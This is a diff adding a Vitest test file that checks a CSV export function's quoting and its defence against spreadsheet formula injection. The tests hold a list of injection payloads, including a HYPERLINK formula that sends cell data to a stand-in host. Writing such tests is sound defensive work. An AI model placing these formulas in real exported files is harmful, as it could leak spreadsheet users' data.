@@ -1,0 +1,50 @@
+import { expect, test } from 'vitest';
+import { csvOf } from './csv.ts';
+
+async function csv(...pages: { name: string; text: string }[][]): Promise<string> {
+  async function* each() {
+    yield* pages;
+  }
+  let written = '';
+  for await (const lines of csvOf({ name: 'Name', text: 'Text' }, each())) written += lines;
+  return written;
+}
+
+test('a table has its heads once, whatever is in the values, and shows its letters in spreadsheets', async () => {
+  const pages = [[{ name: 'Zoë, "Z"', text: 'One\r\ntwo' }], [], [{ name: '漢字', text: '' }]];
+  expect(await csv(...pages)).toBe(
+    '\ufeff"Name","Text"\r\n"Zoë, ""Z""","One\r\ntwo"\r\n"漢字",\r\n',
+  );
+});
+
+test('an empty table has its heads', async () => {
+  expect(await csv()).toBe('\ufeff"Name","Text"\r\n');
+});
+
+test.each([
+  '=1+1',
+  '+1',
+  '-1',
+  '@SUM(A1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '\uff1d1+1',
+  '=HYPERLINK("http://a.test?"&A1,"x")',
+  'x;=1+1',
+  'x;"=1+1',
+  'x; +1',
+  'x\t@SUM(A1)',
+  'Two lines\n=1+1',
+  'Two lines\r\n  -1',
+])('the formula in %j is text in a spreadsheet', async (text) => {
+  const [, row = ''] = (await csv([{ name: 'Row', text }])).split('"Row",');
+  // However the row is cut into cells, none begins with what makes a formula.
+  const cells = row.split(/[;,\t\r\n]/).map((cell) => cell.replace(/^["\s]+/, ''));
+  expect(cells.filter((cell) => /^[=+\-@\uff1d]/.test(cell))).toEqual([]);
+});
+
+test('ordinary words stay as they are', async () => {
+  const text = 'A well-known e-mail, a@b.test: 1+1=2; yes';
+  expect(await csv([{ name: 'A', text }])).toContain(`"${text}"`);
+});
